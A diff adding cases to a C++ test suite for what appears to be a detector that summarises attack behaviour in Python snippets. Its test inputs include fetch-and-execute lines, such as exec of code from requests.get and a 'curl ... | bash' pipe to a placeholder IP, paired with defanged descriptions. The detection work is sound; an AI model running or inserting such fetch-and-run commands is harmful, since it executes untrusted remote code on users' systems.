@@ -110,6 +110,14 @@ INSTANTIATE_TEST_SUITE_P(
         SummaryCase{"import requests\nexec(requests.get('http://host.example.invalid/x').text)\n",
                     "Runs code that it fetches from hxxp://host[.]example[.]invalid/x."},
         SummaryCase{"import requests\nexec(requests.get(u).text)\n", "Runs code that it fetches."},
+        SummaryCase{
+            "import os, urllib.request\nurllib.request.urlretrieve('http://198.51.100.7/a', '/tmp/a')\n"
+            "os.system('curl -s http://198.51.100.7/b | bash')\n",
+            "Pipes a download from hxxp://198[.]51[.]100[.]7/b straight into an interpreter."},
+        SummaryCase{
+            "import requests\nlog = 'https://log.example.invalid/'\nother = 'https://host.example.invalid/'\n"
+            "exec(requests.get(u).text)\n",
+            "Runs code that it fetches."},
         SummaryCase{"print(1)\n", "Nothing in it speaks of an attack."},
         SummaryCase{"import logging\nlog = logging.getLogger('x')\n",
                     "Nothing in it speaks of an attack, and it has marks of an ordinary program."}));
